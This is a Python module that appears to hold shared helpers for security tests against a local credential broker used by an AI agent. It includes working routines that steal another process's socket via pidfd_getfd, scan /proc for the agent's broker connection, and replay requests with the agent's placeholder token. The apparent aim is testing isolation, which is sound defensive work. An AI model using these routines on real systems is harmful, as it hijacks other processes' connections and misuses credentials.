"""What the attacks in Python share: where the loot goes, and how the phantom is tried. Needs nothing but Python."""

import ctypes
import json
import os
import socket
import sys
import time
from pathlib import Path

SET = {name.removeprefix("ATTACK_"): value for name, value in os.environ.items() if name.startswith("ATTACK_")}
AGENT = SET.get("AGENT", "")
PATIENCE_S = 15
_PIDFD_GETFD = 438  # the same number on every architecture
_LIBC = ctypes.CDLL(None, use_errno=True)


def note(text: str) -> None:
    """Keep a line."""
    with (Path(SET["LOOT"]) / "log").open("a") as file:
        file.write(f"{text}\n")


def ran(what: str) -> None:
    """Say that the attack's own code runs."""
    note(f"ran: {what}")


def request() -> bytes:
    """Return a request with the agent's phantom, on a connection that stays open."""
    body = json.dumps({"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": SET["NONCE"]}]})
    head = (
        f"POST {SET.get('PATH', '/v1/messages')} HTTP/1.1",
        "Host: api",
        f"Authorization: Bearer {SET['TOKEN']}",
        "Content-Type: application/json",
        f"Content-Length: {len(body)}",
    )
    return ("\r\n".join(head) + "\r\n\r\n" + body).encode()


def dial(way: str = "tcp") -> socket.socket:
    """Connect to the broker's endpoint, ``tcp`` or ``unix``."""
    if way == "tcp":
        return socket.create_connection(("127.0.0.1", int(SET["PORT"])), timeout=PATIENCE_S)
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(PATIENCE_S)
    connection.connect(SET["SOCKET"])
    return connection


def read_answer(connection: socket.socket, what: str) -> None:
    """Keep what comes, until the answer is whole."""
    connection.settimeout(PATIENCE_S)
    answer = b""
    try:
        while not _is_whole(answer) and (piece := connection.recv(65536)):
            answer += piece
    except OSError as error:
        note(f"{what}: {error}")
    note(f"{what}: {answer.decode(errors='replace')}")


def attempt(what: str) -> None:
    """Use the phantom as this process."""
    for way in ("tcp", "unix"):
        with dial(way) as connection:
            connection.sendall(request())
            read_answer(connection, f"{what}, {way}")


def is_running(pid: int, program: str) -> bool:
    """Tell whether a process runs a program."""
    try:
        return Path(f"/proc/{pid}/exe").resolve() == Path(program).resolve()
    except OSError:
        return False


def wait_for_agent(pid: int) -> None:
    """Return when a process runs the agent's binary."""
    while not is_running(pid, AGENT):
        time.sleep(0.01)


def stolen_socket(pid: int, fd: int) -> socket.socket | None:
    """Take another process's socket by pidfd_getfd, or return None."""
    pidfd = os.pidfd_open(pid)
    taken = _LIBC.syscall(_PIDFD_GETFD, pidfd, fd, 0)
    os.close(pidfd)
    return socket.socket(fileno=taken) if taken >= 0 else None


def connection_of(pid: int) -> int:
    """Return the number of a descriptor that is the agent's connection to the broker; end if it has none."""
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        try:
            if not str(entry.readlink()).startswith("socket:"):
                continue
        except OSError:
            continue
        taken = stolen_socket(pid, int(entry.name))
        if taken is None:
            continue
        with taken:
            try:
                if taken.getpeername()[:2] == ("127.0.0.1", int(SET["PORT"])):
                    return int(entry.name)
            except (OSError, TypeError):
                continue
    sys.exit("the agent keeps no connection to the broker")


def _is_whole(answer: bytes) -> bool:
    head, _, body = answer.partition(b"\r\n\r\n")
    for line in head.splitlines():
        name, _, value = line.partition(b":")
        if name.lower() == b"content-length":
            return len(body) >= int(value)
    return b"transfer-encoding: chunked" in head.lower() and body.endswith(b"0\r\n\r\n")
